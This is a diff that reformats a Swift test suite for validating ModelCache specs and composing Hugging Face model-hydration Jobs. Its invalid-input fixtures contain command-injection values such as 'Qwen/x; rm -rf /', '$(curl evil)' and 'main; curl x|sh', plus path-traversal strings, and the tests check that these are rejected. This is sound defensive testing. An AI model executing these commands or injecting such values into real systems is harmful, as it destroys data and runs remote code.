@@ -19,59 +19,97 @@ func hf(_ fields: Fields) -> Value {
 
 let invalidSpecs: [Invalid] = [
     Invalid(name: "NoSource", spec: with(Fx.defaultSpec, "artifact", [:]), field: "spec.artifact.source", value: nil),
-    Invalid(name: "UnknownSource", spec: with(Fx.defaultSpec, "artifact", ["source": ["s3": ["bucket": "b"]]]),
-            field: "spec.artifact.source", value: "s3"),
-    Invalid(name: "TwoSources", spec: with(Fx.defaultSpec, "artifact", ["source": ["s3": [:], "huggingFace": ["repo": "a/b"]]]),
-            field: "spec.artifact.source", value: "s3"),
-    Invalid(name: "RepoMissing", spec: with(Fx.defaultSpec, "artifact", ["source": ["huggingFace": [:]]]),
-            field: "spec.artifact.source.huggingFace.repo", value: nil),
-    Invalid(name: "RepoShellMetacharacters", spec: hf(["repo": "Qwen/x; rm -rf /"]),
-            field: "spec.artifact.source.huggingFace.repo", value: "Qwen/x; rm -rf /"),
-    Invalid(name: "RepoCommandSubstitution", spec: hf(["repo": "$(curl evil)"]),
-            field: "spec.artifact.source.huggingFace.repo", value: "$(curl evil)"),
-    Invalid(name: "RepoDotDot", spec: hf(["repo": "a/..b"]), field: "spec.artifact.source.huggingFace.repo", value: "a/..b"),
-    Invalid(name: "RepoLeadingDash", spec: hf(["repo": "-rf"]), field: "spec.artifact.source.huggingFace.repo", value: "-rf"),
-    Invalid(name: "RepoLeadingDot", spec: hf(["repo": "a/.hidden"]), field: "spec.artifact.source.huggingFace.repo", value: "a/.hidden"),
-    Invalid(name: "RepoThreeParts", spec: hf(["repo": "a/b/c"]), field: "spec.artifact.source.huggingFace.repo", value: "a/b/c"),
-    Invalid(name: "RepoPartTooLong", spec: hf(["repo": .string("a/" + String(repeating: "x", count: 97))]),
-            field: "spec.artifact.source.huggingFace.repo", value: nil),
+    Invalid(
+        name: "UnknownSource", spec: with(Fx.defaultSpec, "artifact", ["source": ["s3": ["bucket": "b"]]]),
+        field: "spec.artifact.source", value: "s3"),
+    Invalid(
+        name: "TwoSources",
+        spec: with(Fx.defaultSpec, "artifact", ["source": ["s3": [:], "huggingFace": ["repo": "a/b"]]]),
+        field: "spec.artifact.source", value: "s3"),
+    Invalid(
+        name: "RepoMissing", spec: with(Fx.defaultSpec, "artifact", ["source": ["huggingFace": [:]]]),
+        field: "spec.artifact.source.huggingFace.repo", value: nil),
+    Invalid(
+        name: "RepoShellMetacharacters", spec: hf(["repo": "Qwen/x; rm -rf /"]),
+        field: "spec.artifact.source.huggingFace.repo", value: "Qwen/x; rm -rf /"),
+    Invalid(
+        name: "RepoCommandSubstitution", spec: hf(["repo": "$(curl evil)"]),
+        field: "spec.artifact.source.huggingFace.repo", value: "$(curl evil)"),
+    Invalid(
+        name: "RepoDotDot", spec: hf(["repo": "a/..b"]), field: "spec.artifact.source.huggingFace.repo", value: "a/..b"),
+    Invalid(
+        name: "RepoLeadingDash", spec: hf(["repo": "-rf"]), field: "spec.artifact.source.huggingFace.repo", value: "-rf"
+    ),
+    Invalid(
+        name: "RepoLeadingDot", spec: hf(["repo": "a/.hidden"]), field: "spec.artifact.source.huggingFace.repo",
+        value: "a/.hidden"),
+    Invalid(
+        name: "RepoThreeParts", spec: hf(["repo": "a/b/c"]), field: "spec.artifact.source.huggingFace.repo",
+        value: "a/b/c"),
+    Invalid(
+        name: "RepoPartTooLong", spec: hf(["repo": .string("a/" + String(repeating: "x", count: 97))]),
+        field: "spec.artifact.source.huggingFace.repo", value: nil),
     Invalid(name: "RepoNotString", spec: hf(["repo": 42]), field: "spec.artifact.source.huggingFace.repo", value: "42"),
-    Invalid(name: "RevisionShell", spec: hf(["revision": "main; curl x|sh"]),
-            field: "spec.artifact.source.huggingFace.revision", value: "main; curl x|sh"),
-    Invalid(name: "RevisionBacktick", spec: hf(["revision": "`id`"]),
-            field: "spec.artifact.source.huggingFace.revision", value: "`id`"),
-    Invalid(name: "RevisionLeadingDash", spec: hf(["revision": "--help"]),
-            field: "spec.artifact.source.huggingFace.revision", value: "--help"),
-    Invalid(name: "RevisionDotDot", spec: hf(["revision": "refs/../x"]),
-            field: "spec.artifact.source.huggingFace.revision", value: "refs/../x"),
-    Invalid(name: "RevisionEmpty", spec: hf(["revision": ""]), field: "spec.artifact.source.huggingFace.revision", value: ""),
-    Invalid(name: "RevisionTooLong", spec: hf(["revision": .string(String(repeating: "a", count: 256))]),
-            field: "spec.artifact.source.huggingFace.revision", value: nil),
-    Invalid(name: "TokenNameMissing", spec: hf(["tokenSecretRef": ["key": "HF_TOKEN"]]),
-            field: "spec.artifact.source.huggingFace.tokenSecretRef.name", value: nil),
-    Invalid(name: "TokenNameNotDNS", spec: hf(["tokenSecretRef": ["name": "Bad_Name"]]),
-            field: "spec.artifact.source.huggingFace.tokenSecretRef.name", value: "Bad_Name"),
-    Invalid(name: "TokenKeyInvalid", spec: hf(["tokenSecretRef": ["name": "hf", "key": "a/b"]]),
-            field: "spec.artifact.source.huggingFace.tokenSecretRef.key", value: "a/b"),
+    Invalid(
+        name: "RevisionShell", spec: hf(["revision": "main; curl x|sh"]),
+        field: "spec.artifact.source.huggingFace.revision", value: "main; curl x|sh"),
+    Invalid(
+        name: "RevisionBacktick", spec: hf(["revision": "`id`"]),
+        field: "spec.artifact.source.huggingFace.revision", value: "`id`"),
+    Invalid(
+        name: "RevisionLeadingDash", spec: hf(["revision": "--help"]),
+        field: "spec.artifact.source.huggingFace.revision", value: "--help"),
+    Invalid(
+        name: "RevisionDotDot", spec: hf(["revision": "refs/../x"]),
+        field: "spec.artifact.source.huggingFace.revision", value: "refs/../x"),
+    Invalid(
+        name: "RevisionEmpty", spec: hf(["revision": ""]), field: "spec.artifact.source.huggingFace.revision", value: ""
+    ),
+    Invalid(
+        name: "RevisionTooLong", spec: hf(["revision": .string(String(repeating: "a", count: 256))]),
+        field: "spec.artifact.source.huggingFace.revision", value: nil),
+    Invalid(
+        name: "TokenNameMissing", spec: hf(["tokenSecretRef": ["key": "HF_TOKEN"]]),
+        field: "spec.artifact.source.huggingFace.tokenSecretRef.name", value: nil),
+    Invalid(
+        name: "TokenNameNotDNS", spec: hf(["tokenSecretRef": ["name": "Bad_Name"]]),
+        field: "spec.artifact.source.huggingFace.tokenSecretRef.name", value: "Bad_Name"),
+    Invalid(
+        name: "TokenKeyInvalid", spec: hf(["tokenSecretRef": ["name": "hf", "key": "a/b"]]),
+        field: "spec.artifact.source.huggingFace.tokenSecretRef.key", value: "a/b"),
     Invalid(name: "MountMissing", spec: with(Fx.defaultSpec, "mount", [:]), field: "spec.mount.path", value: nil),
-    Invalid(name: "MountRelative", spec: with(Fx.defaultSpec, "mount", ["path": "models"]), field: "spec.mount.path", value: "models"),
-    Invalid(name: "MountRoot", spec: with(Fx.defaultSpec, "mount", ["path": "/"]), field: "spec.mount.path", value: "/"),
-    Invalid(name: "MountDotDot", spec: with(Fx.defaultSpec, "mount", ["path": "/models/../etc"]),
-            field: "spec.mount.path", value: "/models/../etc"),
-    Invalid(name: "MountDoubleSlash", spec: with(Fx.defaultSpec, "mount", ["path": "/models//qwen"]),
-            field: "spec.mount.path", value: "/models//qwen"),
-    Invalid(name: "MountColon", spec: with(Fx.defaultSpec, "mount", ["path": "/models:rw"]),
-            field: "spec.mount.path", value: "/models:rw"),
-    Invalid(name: "SizeZero", spec: with(Fx.defaultSpec, "storage", ["sizeGiB": 0]), field: "spec.storage.sizeGiB", value: "0"),
-    Invalid(name: "SizeTooLarge", spec: with(Fx.defaultSpec, "storage", ["sizeGiB": 10_001]),
-            field: "spec.storage.sizeGiB", value: "10001"),
-    Invalid(name: "SizeFraction", spec: with(Fx.defaultSpec, "storage", ["sizeGiB": 1.5]), field: "spec.storage.sizeGiB", value: "1.5"),
-    Invalid(name: "LabelNotString", spec: with(Fx.defaultSpec, "clusterSelector", ["matchLabels": ["gpu": true]]),
-            field: "spec.clusterSelector.matchLabels.gpu", value: "true"),
-    Invalid(name: "LabelValueInvalid", spec: with(Fx.defaultSpec, "clusterSelector", ["matchLabels": ["gpu": "a b"]]),
-            field: "spec.clusterSelector.matchLabels.gpu", value: "a b"),
-    Invalid(name: "MatchLabelsNotMap", spec: with(Fx.defaultSpec, "clusterSelector", ["matchLabels": ["x"]]),
-            field: "spec.clusterSelector.matchLabels", value: nil),
+    Invalid(
+        name: "MountRelative", spec: with(Fx.defaultSpec, "mount", ["path": "models"]), field: "spec.mount.path",
+        value: "models"),
+    Invalid(
+        name: "MountRoot", spec: with(Fx.defaultSpec, "mount", ["path": "/"]), field: "spec.mount.path", value: "/"),
+    Invalid(
+        name: "MountDotDot", spec: with(Fx.defaultSpec, "mount", ["path": "/models/../etc"]),
+        field: "spec.mount.path", value: "/models/../etc"),
+    Invalid(
+        name: "MountDoubleSlash", spec: with(Fx.defaultSpec, "mount", ["path": "/models//qwen"]),
+        field: "spec.mount.path", value: "/models//qwen"),
+    Invalid(
+        name: "MountColon", spec: with(Fx.defaultSpec, "mount", ["path": "/models:rw"]),
+        field: "spec.mount.path", value: "/models:rw"),
+    Invalid(
+        name: "SizeZero", spec: with(Fx.defaultSpec, "storage", ["sizeGiB": 0]), field: "spec.storage.sizeGiB",
+        value: "0"),
+    Invalid(
+        name: "SizeTooLarge", spec: with(Fx.defaultSpec, "storage", ["sizeGiB": 10_001]),
+        field: "spec.storage.sizeGiB", value: "10001"),
+    Invalid(
+        name: "SizeFraction", spec: with(Fx.defaultSpec, "storage", ["sizeGiB": 1.5]), field: "spec.storage.sizeGiB",
+        value: "1.5"),
+    Invalid(
+        name: "LabelNotString", spec: with(Fx.defaultSpec, "clusterSelector", ["matchLabels": ["gpu": true]]),
+        field: "spec.clusterSelector.matchLabels.gpu", value: "true"),
+    Invalid(
+        name: "LabelValueInvalid", spec: with(Fx.defaultSpec, "clusterSelector", ["matchLabels": ["gpu": "a b"]]),
+        field: "spec.clusterSelector.matchLabels.gpu", value: "a b"),
+    Invalid(
+        name: "MatchLabelsNotMap", spec: with(Fx.defaultSpec, "clusterSelector", ["matchLabels": ["x"]]),
+        field: "spec.clusterSelector.matchLabels", value: nil),
 ]
 
 @Suite struct ModelCacheValidationTests {
@@ -91,7 +129,10 @@ let invalidSpecs: [Invalid] = [
     @Test("The documented revision example reads as the spec shows it")
     func documentedMessage() throws {
         let r = Composer().run(Fx.request(Fx.modelCache(spec: hf(["revision": "main; curl x|sh"]))))
-        #expect(r.results.first?.message == #"Invalid ModelCache ml-team/qwen-2-5: spec.artifact.source.huggingFace.revision "main; curl x|sh" is not a valid revision: use 1 to 255 letters, digits, '-', '_', '.', '/', not starting with '-', without '..'"#)
+        #expect(
+            r.results.first?.message
+                == #"Invalid ModelCache ml-team/qwen-2-5: spec.artifact.source.huggingFace.revision "main; curl x|sh" is not a valid revision: use 1 to 255 letters, digits, '-', '_', '.', '/', not starting with '-', without '..'"#
+        )
     }
 
     @Test("Every broken rule is reported in one message")
@@ -103,11 +144,13 @@ let invalidSpecs: [Invalid] = [
         #expect(message.contains("huggingFace.revision") && message.contains("spec.mount.path"))
     }
 
-    @Test("Valid edge values are accepted", arguments: [
-        hf(["repo": "gpt2"]), hf(["revision": "refs/pr/1"]), hf(["revision": "a1b2c3d4e5f6"]),
-        hf(["repo": "org_1/model.v2-gguf"]), with(Fx.defaultSpec, "storage", ["sizeGiB": 10_000]),
-        with(Fx.defaultSpec, "mount", ["path": "/a"]),
-    ])
+    @Test(
+        "Valid edge values are accepted",
+        arguments: [
+            hf(["repo": "gpt2"]), hf(["revision": "refs/pr/1"]), hf(["revision": "a1b2c3d4e5f6"]),
+            hf(["repo": "org_1/model.v2-gguf"]), with(Fx.defaultSpec, "storage", ["sizeGiB": 10_000]),
+            with(Fx.defaultSpec, "mount", ["path": "/a"]),
+        ])
     func accepted(_ spec: Value) {
         let r = Composer().run(Fx.request(Fx.modelCache(spec: spec), clusters: [gpuEast]))
         #expect(!r.isFatal, "\(r.results.map(\.message))")
@@ -115,23 +158,32 @@ let invalidSpecs: [Invalid] = [
 
     @Test("A bad step input is FATAL naming the field")
     func badInput() {
-        let r = Composer().run(Fx.request(Fx.modelCache(), clusters: [gpuEast],
-                                          input: ["apiVersion": "modelcache.fn.modelplane.ai/v1alpha1", "kind": "Input",
-                                                  "remoteNamespace": "Not_A_Namespace"]))
+        let r = Composer().run(
+            Fx.request(
+                Fx.modelCache(), clusters: [gpuEast],
+                input: [
+                    "apiVersion": "modelcache.fn.modelplane.ai/v1alpha1", "kind": "Input",
+                    "remoteNamespace": "Not_A_Namespace",
+                ]))
         #expect(r.results.first?.message.contains(#"input.remoteNamespace "Not_A_Namespace""#) == true)
         #expect(r.isFatal)
     }
 
     @Test("Step input settings reach the composed Job")
     func inputSettings() {
-        let r = Composer().run(Fx.request(Fx.modelCache(), clusters: [gpuEast],
-                                          input: ["apiVersion": "modelcache.fn.modelplane.ai/v1alpha1", "kind": "Input",
-                                                  "remoteNamespace": "models", "hydrationImage": "registry.example/hf:1",
-                                                  "jobTTLSeconds": 60]))
+        let r = Composer().run(
+            Fx.request(
+                Fx.modelCache(), clusters: [gpuEast],
+                input: [
+                    "apiVersion": "modelcache.fn.modelplane.ai/v1alpha1", "kind": "Input",
+                    "remoteNamespace": "models", "hydrationImage": "registry.example/hf:1",
+                    "jobTTLSeconds": 60,
+                ]))
         let job = manifest(r, "hydrate-gpu-east")
         #expect(job?[path: "metadata", "namespace"] == "models")
         #expect(job?[path: "spec", "ttlSecondsAfterFinished"] == 60)
-        #expect(job?[path: "spec", "template", "spec", "containers"]?.listValue?.first?["image"] == "registry.example/hf:1")
+        #expect(
+            job?[path: "spec", "template", "spec", "containers"]?.listValue?.first?["image"] == "registry.example/hf:1")
         #expect(manifest(r, "pvc-gpu-east")?[path: "metadata", "namespace"] == "models")
     }
 }
@@ -140,7 +192,8 @@ let invalidSpecs: [Invalid] = [
     @Test("Golden names match the reference implementation")
     func goldens() {
         #expect(childName("modelcache", "ml-team", "qwen-2-5") == "modelcache-ml-team-qwen-2-5-b6b9a")
-        #expect(childName("modelcache", "ml-team", "qwen-2-5", "hydrate") == "modelcache-ml-team-qwen-2-5-hydrate-84346")
+        #expect(
+            childName("modelcache", "ml-team", "qwen-2-5", "hydrate") == "modelcache-ml-team-qwen-2-5-hydrate-84346")
         #expect(childName("qwen-demo") == "qwen-demo-86093")
     }
 
@@ -163,13 +216,20 @@ let invalidSpecs: [Invalid] = [
 @Suite struct HydrationTests {
     @Test("No string from the spec occurs in the Job's command or args")
     func constantCommand() throws {
-        let spec = hf(["repo": "evil-org/evil-model", "revision": "evil-revision-123",
-                       "tokenSecretRef": ["name": "evil-secret", "key": "EVIL_KEY"]])
+        let spec = hf([
+            "repo": "evil-org/evil-model", "revision": "evil-revision-123",
+            "tokenSecretRef": ["name": "evil-secret", "key": "EVIL_KEY"],
+        ])
         var s = spec
         s["mount"] = ["path": "/evil/mount"]
-        let r = Composer().run(Fx.request(Fx.modelCache(spec: s), clusters: [gpuEast],
-                                          required: ["token-secret": [tokenSecret(["EVIL_KEY": "eA=="])]].mapValues { $0.map { with($0, "metadata", ["name": "evil-secret", "namespace": "ml-team"]) } }))
-        let container = try #require(manifest(r, "hydrate-gpu-east")?[path: "spec", "template", "spec", "containers"]?.listValue?.first)
+        let r = Composer().run(
+            Fx.request(
+                Fx.modelCache(spec: s), clusters: [gpuEast],
+                required: ["token-secret": [tokenSecret(["EVIL_KEY": "eA=="])]].mapValues {
+                    $0.map { with($0, "metadata", ["name": "evil-secret", "namespace": "ml-team"]) }
+                }))
+        let container = try #require(
+            manifest(r, "hydrate-gpu-east")?[path: "spec", "template", "spec", "containers"]?.listValue?.first)
         let text = (container["command"]?.canonicalJSON() ?? "") + (container["args"]?.canonicalJSON() ?? "")
         for needle in ["evil", "EVIL", "/evil/mount"] { #expect(!text.contains(needle)) }
         #expect(container["command"] == ["/bin/sh", "-c", .string(HydrationScript.text)])
@@ -202,12 +262,21 @@ let invalidSpecs: [Invalid] = [
     @Test("Running Jobs keep their slot in the hydration wave; free slots go to clusters by name")
     func waves() {
         let clusters = ["c-1", "c-2", "c-3", "c-4"].map { Fx.cluster($0) }
-        let r = Composer().run(Fx.request(
-            Fx.modelCache(status: Fx.status([("c-1", "Pending"), ("c-2", "Pending"), ("c-3", "Pending"), ("c-4", "Hydrating")])),
-            clusters: clusters, observed: ["hydrate-c-4": Lx.observedJob(firstJob), "pvc-c-4": Fx.claim(phase: "Bound")],
-            input: ["apiVersion": "modelcache.fn.modelplane.ai/v1alpha1", "kind": "Input", "maxParallelHydrations": 2]))
-        #expect(r.desired.resources.keys.filter { $0.hasPrefix("hydrate-") }.sorted() == ["hydrate-c-1", "hydrate-c-4"])
-        #expect(statusClusters(r).map { $0["phase"]?.stringValue ?? "" } == ["Pending", "Pending", "Pending", "Hydrating"])
+        let r = Composer().run(
+            Fx.request(
+                Fx.modelCache(
+                    status: Fx.status([
+                        ("c-1", "Pending"), ("c-2", "Pending"), ("c-3", "Pending"), ("c-4", "Hydrating"),
+                    ])),
+                clusters: clusters,
+                observed: ["hydrate-c-4": Lx.observedJob(firstJob), "pvc-c-4": Fx.claim(phase: "Bound")],
+                input: [
+                    "apiVersion": "modelcache.fn.modelplane.ai/v1alpha1", "kind": "Input", "maxParallelHydrations": 2,
+                ]))
+        #expect(
+            r.desired.resources.keys.filter { $0.hasPrefix("hydrate-") }.sorted() == ["hydrate-c-1", "hydrate-c-4"])
+        #expect(
+            statusClusters(r).map { $0["phase"]?.stringValue ?? "" } == ["Pending", "Pending", "Pending", "Hydrating"])
         #expect(statusClusters(r)[1]["message"] == "Queued: at most 2 hydration Jobs run at once")
     }
 }
